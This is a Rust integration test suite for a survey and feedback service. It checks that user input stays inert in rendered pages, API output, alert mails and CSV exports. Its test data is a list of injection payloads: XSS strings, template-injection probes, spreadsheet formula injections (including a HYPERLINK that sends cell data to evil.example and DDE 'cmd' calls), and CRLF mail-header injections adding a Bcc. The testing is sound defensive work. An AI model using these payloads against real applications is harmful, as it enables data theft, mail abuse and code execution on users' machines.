//! Words that are code elsewhere, on their whole way: the public form, the pages and mails that show them again, the
//! answers of the API, the files that are taken out.

use candor_model::Role;
use candor_testkit::{Client, TestApp};
use reqwest::{Method, Response, StatusCode};
use serde_json::{Value, json};

/// What a browser, a template, a spreadsheet or a mail program would run if somebody forgot to treat it as words.
const WORDS: [&str; 14] = [
    "<script>window.pwned=1</script>",
    "\"><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "'-alert(1)-'",
    "<svg/onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">late</a>",
    "<style>*{display:none}</style>",
    "{{7919*7907}}{% include 'secret' %}${7919*7907}<%= 7919*7907 %>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "=HYPERLINK(\"http://evil.example?\"&A1,\"late\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "Late.\r\nBcc: thief@evil.example\r\n\r\n<b>again</b>",
];

async fn form(client: &Client, path: &str, fields: &[(&str, &str)]) -> Response {
    let body = form_urlencoded::Serializer::new(String::new()).extend_pairs(fields).finish();
    let request = client.request(Method::POST, path);
    request.header("content-type", "application/x-www-form-urlencoded").body(body).send().await.unwrap()
}

/// A published survey of two pages with a text question each, and the path of its link.
async fn survey(app: &TestApp, admin: &Client) -> String {
    let question =
        |key: &str| json!({ "key": key, "text": { "en": "And?" }, "kind": { "type": "long_text" } });
    let definition = json!({ "title": { "en": "Visit" }, "languages": ["en"],
        "parameters": [{ "name": "order", "target": "attribute" }],
        "pages": [{ "questions": [question("q1")] }, { "questions": [question("q2")] }] });
    let made =
        admin.post_json("/api/v1/surveys", &json!({ "name": "Visit", "definition": definition })).await;
    let survey = format!("/api/v1/surveys/{}", made["id"].as_str().unwrap());
    admin.post_json(&format!("{survey}/publication"), &json!({ "revision": 1 })).await;
    let links = admin.get_json(&format!("{survey}/links")).await;
    let address = links["items"][0]["address"].as_str().unwrap();
    address.strip_prefix(&app.url).unwrap().to_owned()
}

/// What of the words would do something in HTML.
fn is_markup(words: &str) -> bool {
    words.contains('<') || words.contains('"') || words.contains('\'')
}

#[tokio::test(flavor = "multi_thread")]
async fn words_stay_words_from_the_public_form_to_the_last_file() {
    let app = TestApp::new().await;
    let admin = app.admin().await;
    let manager = app.add_user(app.org, "ada@north.example", Role::Manager, None).await;
    let rule = json!({ "name": "All", "filter": "survey:visit", "recipients": { "users": [manager] } });
    admin.post_json("/api/v1/alert-rules", &rule).await;
    let link = survey(&app, &admin).await;
    for (n, words) in WORDS.iter().enumerate() {
        let nobody = app.nobody();
        let path = format!("{link}/{n:043}");
        let first = [
            ("page", "0"),
            ("shown", "q1"),
            ("lang", "en"),
            ("q1", words),
            ("~order", words),
            ("go", "next"),
        ];
        assert_eq!(form(&nobody, &path, &first).await.status(), StatusCode::SEE_OTHER, "{words}");
        // The page shows again what was answered.
        let again = nobody.get(&format!("{path}?p=0")).await;
        let policy = again.headers()["content-security-policy"].to_str().unwrap().to_owned();
        assert!(!policy.contains("unsafe-inline") && policy.contains("frame-ancestors"), "{policy}");
        let html = again.text().await.unwrap();
        assert!(!is_markup(words) || !html.contains(words), "{words} stands as it came in {html}");
        assert!(!html.contains("62615533"), "a template was run: {html}");
        let second = [("page", "1"), ("shown", "q2"), ("lang", "en"), ("q2", "That is all."), ("go", "next")];
        assert_eq!(form(&nobody, &path, &second).await.status(), StatusCode::SEE_OTHER, "{words}");
    }
    app.settle().await;

    let answer = admin.get("/api/v1/feedback?filter=survey:visit&limit=50").await;
    assert_eq!(answer.headers()["content-type"], "application/json");
    assert_eq!(answer.headers()["x-content-type-options"], "nosniff");
    let found: Value = answer.json().await.unwrap();
    let said = found["items"].to_string();
    assert_eq!(found["items"].as_array().unwrap().len(), WORDS.len());
    for words in WORDS.iter().filter(|w| !w.contains('\r')) {
        assert!(said.contains(json!(words).to_string().trim_matches('"')), "{words} was changed: {said}");
    }

    let mails = app.mail.wait_for(WORDS.len()).await;
    for mail in &mails {
        assert_eq!(mail.to, ["ada@north.example"], "nobody else gets it");
        assert!(mail.message.headers.iter().all(|(name, _)| !name.eq_ignore_ascii_case("bcc")));
        let html = &mail.message.html;
        for words in WORDS.iter().filter(|w| w.contains('<')) {
            assert!(!html.contains(words), "{words} in the mail {html}");
        }
        assert!(
            !mail.message.text.contains("62615533") || !mail.message.text.contains("{{"),
            "{}",
            mail.message.text
        );
    }

    let file = admin.get("/api/v1/feedback/export?format=csv&filter=survey:visit").await;
    assert!(file.headers()["content-disposition"].to_str().unwrap().starts_with("attachment"));
    assert_eq!(file.headers()["x-content-type-options"], "nosniff");
    let text = file.text().await.unwrap();
    let mut rows = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut count = 0;
    for row in rows.records() {
        count += 1;
        for cell in &row.unwrap() {
            let begins = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '|', '%']);
            assert!(!begins || cell.parse::<f64>().is_ok(), "{cell} would be run");
        }
    }
    assert_eq!(count, WORDS.len());
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_people_type_begins_another_line_of_a_mails_head() {
    let app = TestApp::new().await;
    let admin = app.admin().await;
    let evil = "Ada\r\nBcc: thief@evil.example\r\nX-Evil: yes";
    let user = json!({ "email": "ada@north.example", "name": evil, "role": "manager" });
    assert_eq!(admin.post("/api/v1/users", &user).await.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let ada = app.add_user(app.org, "ada@north.example", Role::Manager, None).await;
    let rename = admin.patch(&format!("/api/v1/users/{ada}"), &json!({ "name": evil })).await;
    assert_eq!(rename.status(), StatusCode::UNPROCESSABLE_ENTITY);

    let rule = |name: &str| json!({ "name": name, "filter": "nps<=6", "recipients": { "users": [ada] } });
    let named = admin.post("/api/v1/alert-rules", &rule(evil)).await;
    if !named.status().is_success() {
        assert_eq!(named.status(), StatusCode::UNPROCESSABLE_ENTITY);
        admin.post_json("/api/v1/alert-rules", &rule("Unhappy")).await;
    }
    let said = json!({ "source": "test", "title": evil, "text": "Late again.", "scores": { "nps": 1 }, "unit": "north",
                       "customer": { "external_id": "c1", "name": evil } });
    admin.post("/api/v1/feedback", &said).await;
    let plain = json!({ "source": "test", "text": "Late again.", "scores": { "nps": 1 } });
    admin.post_json("/api/v1/feedback", &plain).await;

    let link = survey(&app, &admin).await;
    assert!(!link.is_empty());
    let surveys = admin.get_json("/api/v1/surveys").await;
    let path = format!("/api/v1/surveys/{}/invitations", surveys["items"][0]["id"].as_str().unwrap());
    let invite = |subject: &str, email: &str, name: &str| json!({ "recipients": [{ "email": email, "name": name }], "subject": subject, "message": "Tell us." });
    let wrong = admin.post(&path, &invite(evil, "bob@example.org", "Bob")).await;
    assert_eq!(wrong.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let skipped =
        admin.post_json(&path, &invite("How was it?", "bob@example.org\r\nBcc: x@evil.example", "Bob")).await;
    assert_eq!(skipped["queued"], 0, "{skipped}");
    admin.post_json(&path, &invite("How was it?", "bob@example.org", evil)).await;
    app.settle().await;

    let mails = app.mail.received();
    assert!(mails.len() >= 2, "{}", mails.len());
    for mail in &mails {
        assert!(
            ["ada@north.example", "bob@example.org"].contains(&mail.to[0].as_str()) && mail.to.len() == 1
        );
        for (name, value) in &mail.message.headers {
            assert!(!["bcc", "x-evil"].contains(&name.to_lowercase().as_str()), "{name}: {value}");
        }
    }
}
